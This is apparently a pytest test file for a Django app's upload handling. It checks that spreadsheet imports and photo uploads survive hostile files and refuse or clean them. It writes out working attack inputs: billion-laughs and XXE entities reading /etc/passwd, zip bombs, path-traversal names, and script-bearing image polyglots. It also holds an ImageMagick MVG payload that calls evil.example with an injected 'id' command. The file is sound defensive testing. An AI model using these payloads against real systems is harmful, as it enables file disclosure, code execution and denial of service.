"""Files that are not what they say, or that grow: refused in words, soon, and kept clean."""

import io
import resource
import time
import warnings
import zipfile

import pytest
from django.core.files.base import ContentFile
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from PIL import Image

from linli.core import attachments
from linli.core.models import Attachment
from linli.territory.tests.workbooks import workbook
from linli.web.tests.test_report import a_form
from tests.cast import NOW

pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("clock")]

ROWS = {"小区": [["编码", "名称"], ["LY", "柳苑"]]}
LAUGHS = (
    b'<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "'
    + b"ha" * 1_000
    + b'">'
    + b"".join(f'<!ENTITY {chr(98 + n)} "{f"&{chr(97 + n)};" * 10}">'.encode() for n in range(9))
    + b"]>"
)
OUTSIDE = (
    b'<?xml version="1.0"?><!DOCTYPE l [<!ENTITY x SYSTEM "file:///etc/passwd">'
    b'<!ENTITY y SYSTEM "http://127.0.0.1:1/">]>'
)


def repacked(data: bytes, **parts: bytes) -> bytes:
    """Return a workbook in which some parts are others; `__` stands for a slash, `_x` for .xml."""
    out = io.BytesIO()
    wanted = {name.replace("__", "/").replace("_x", ".xml"): new for name, new in parts.items()}
    with zipfile.ZipFile(io.BytesIO(data)) as old, zipfile.ZipFile(out, "w", 8) as new:
        for name in old.namelist():
            new.writestr(name, wanted.pop(name, None) or old.read(name))
        for name, content in wanted.items():
            new.writestr(name, content)
    return out.getvalue()


def strings(head: bytes, text: bytes) -> bytes:
    return (
        head
        + b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        + b"".join(b"<si><t>" + one + b"</t></si>" for one in ("编码".encode(), text, text, text))
        + b"</sst>"
    )


def bring(browser: Client, data: bytes, name: str = "底册.xlsx"):
    upload = SimpleUploadedFile(name, data, content_type="image/png")
    return browser.post("/places/import/", {"file": upload, "datum": "WGS_84"}, follow=True)


@pytest.mark.parametrize(
    ("name", "data"),
    [
        (
            "billion laughs",
            repacked(workbook(ROWS), xl__sharedStrings_x=strings(LAUGHS, b"&j;")),
        ),
        (
            "a file of the server",
            repacked(workbook(ROWS), xl__sharedStrings_x=strings(OUTSIDE, b"&x;&y;")),
        ),
        (
            "a sheet of half a gigabyte",
            repacked(workbook(ROWS), xl__worksheets__sheet9_x=b" " * (500 << 20)),
        ),
        (
            "one cell at the end of the world",
            repacked(
                workbook(ROWS),
                xl__worksheets__sheet1_x=b'<worksheet><sheetData><row r="1048576">'
                b'<c r="XFD1048576"><v>1</v></c></row></sheetData></worksheet>',
            ),
        ),
        (
            "a hundred thousand parts",
            repacked(workbook(ROWS), **{f"xl__p{n}_x": b"<a/>" for n in range(20_000)}),
        ),
        ("deep", repacked(workbook(ROWS), xl__workbook_x=b"<a>" * 200_000)),
    ],
    ids=lambda given: given if isinstance(given, str) else "",
)
def test_a_workbook_that_grows_is_answered_soon_and_in_words(name, data, cast, signed_in):
    browser = signed_in(cast.zhou_min)
    browser.raise_request_exception = False
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    began = time.process_time()
    answer = bring(browser, data)
    assert answer.status_code in (200, 422), name
    assert time.process_time() - began < 20
    grown_mb = (resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before) / 1024
    assert grown_mb < 700, f"{grown_mb:.0f} MB"
    page = answer.content.decode()
    assert "root:" not in page
    assert "hahaha" not in page


def test_a_bomb_behind_a_second_part_of_the_same_name_is_seen():
    """Which of two parts a reader takes is its own affair, so both are counted."""
    from linli.core.sheets import ImportRefused, refuse_bombs

    out = io.BytesIO(workbook(ROWS))
    with warnings.catch_warnings(), zipfile.ZipFile(out, "a", 8) as packed:
        warnings.simplefilter("ignore")
        packed.writestr("xl/worksheets/sheet1.xml", b" " * (250 << 20))
        packed.writestr("xl/worksheets/sheet1.xml", b"<worksheet/>")
    with pytest.raises(ImportRefused):
        refuse_bombs(data=out.getvalue())


def test_a_size_that_lies_is_no_way_in(cast, signed_in):
    """The directory says ten bytes; what is unpacked counts."""
    data = bytearray(repacked(workbook(ROWS), xl__worksheets__sheet9_x=b" " * (5 << 20)))
    at = data.rfind(b"PK\x01\x02")
    data[at + 24 : at + 28] = (10).to_bytes(4, "little")
    assert bring(signed_in(cast.zhou_min), bytes(data)).status_code in (200, 422)


@pytest.mark.parametrize(
    "name", ["../../x.xlsx", "/etc/passwd.xlsx", "C:\\x.xlsx", "a\u202ex.xlsx", "x" * 250 + ".xlsx"]
)
def test_no_name_leads_out_of_the_folder(name, cast, signed_in, settings):
    data = repacked(workbook(ROWS), **{"..__..__evil_x": b"<a/>"})
    bring(signed_in(cast.zhou_min), data, name)
    for kept in Attachment.objects.all():
        assert kept.file.name.startswith("attachments/")
        assert ".." not in kept.file.name
        assert not any(mark in kept.name for mark in "/\\\u202e<>\"'")


# --- Pictures -----------------------------------------------------------------------------------


def jpeg(**more: object) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (64, 48), "navy").save(out, "JPEG", **more)
    return out.getvalue()


def packed_page() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("evil.html", "<script>alert(1)</script>")
    return out.getvalue()


POLYGLOTS = {
    "a page behind": jpeg() + b"<!doctype html><script>alert(1)</script>",
    "a page in the comment": jpeg(comment=b"--><script>alert(1)</script>"),
    "an archive behind": jpeg() + packed_page(),
    "a GIF that is a script": b"GIF89a/*" + b"\x00" * 20 + b"*/=1;<script>alert(1)</script>",
    "SVG": b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>1</script></svg>',
    "SVG behind a declaration": b'\xef\xbb\xbf<?xml version="1.0"?><svg><script>1</script></svg>',
    "a page": b"<html><script>alert(1)</script>",
    "PDF": b"%PDF-1.4 /JavaScript (app.alert(1))",
    "a program": b"\x7fELF" + b"\x00" * 100,
    "MVG": b"push graphic-context\nfill 'url(https://evil.example/x\"|id\")'",
    "PostScript": b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n(/etc/passwd)(r)file",
}


@pytest.mark.parametrize("name", POLYGLOTS)
@pytest.mark.parametrize("said", ["image/jpeg", "text/html", "image/svg+xml"])
def test_what_comes_back_of_a_photo_is_a_picture_and_nothing_else(name, said, cast):
    browser = Client(raise_request_exception=False)
    photo = SimpleUploadedFile("photo.html", POLYGLOTS[name], content_type=said)
    answer = browser.post("/report/", a_form(cast) | {"photos": photo})
    assert answer.status_code in (302, 422)
    for kept in Attachment.objects.all():
        data = kept.file.read()
        assert data[:3] == b"\xff\xd8\xff" or data[:4] == b"\x89PNG"
        for trace in (b"<script", b"PK\x03\x04", b"<svg", b"evil", b"alert"):
            assert trace not in data, trace
        assert kept.file.name.endswith((".jpg", ".png"))
        shown = browser.get(f"/photos/{kept.token}/")
        if shown.status_code == 200:
            assert shown.headers["Content-Type"] in ("image/jpeg", "image/png")
            assert shown.headers["X-Content-Type-Options"] == "nosniff"


def test_a_document_with_entities_is_kept_as_it_is_and_never_read():
    """Papers are handed back as downloads; nothing in them is parsed."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", 8) as packed:
        packed.writestr("[Content_Types].xml", LAUGHS + b"<Types>&j;</Types>")
        packed.writestr("word/document.xml", LAUGHS + b"<d>&j;</d>")
    upload = ContentFile(out.getvalue(), name="协议.docx")
    from linli.core.actor import NOBODY

    began = time.process_time()
    kept = attachments.store_file(upload=upload, purpose="EVIDENCE", actor=NOBODY, at=NOW)
    assert time.process_time() - began < 2
    assert kept.file.read() == out.getvalue()
